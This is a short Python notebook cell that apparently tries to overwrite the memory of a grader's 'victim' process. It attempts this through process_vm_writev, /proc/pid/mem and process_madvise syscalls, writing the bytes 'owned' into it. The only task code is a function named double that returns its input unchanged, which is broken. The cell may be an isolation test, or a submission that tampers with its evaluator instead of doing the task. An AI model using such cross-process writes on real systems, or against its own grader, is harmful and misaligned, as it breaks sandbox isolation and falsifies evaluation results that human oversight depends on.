# The memory of the grader's other process is written.
# %% q1
import ctypes, os
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
word = ctypes.create_string_buffer(b"owned")
here, there = Span(ctypes.cast(word, ctypes.c_void_p), 5), Span(0x400000, 5)
attempt("process_vm_writev", lambda: syscall(311, targets["victim"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
attempt("/proc/pid/mem", lambda: os.open(f"/proc/{targets['victim']}/mem", os.O_RDWR))
attempt("process_madvise", lambda: syscall(440, syscall(434, targets["victim"], 0), ctypes.byref(there), 1, 21, 0))
def double(x):
    return x
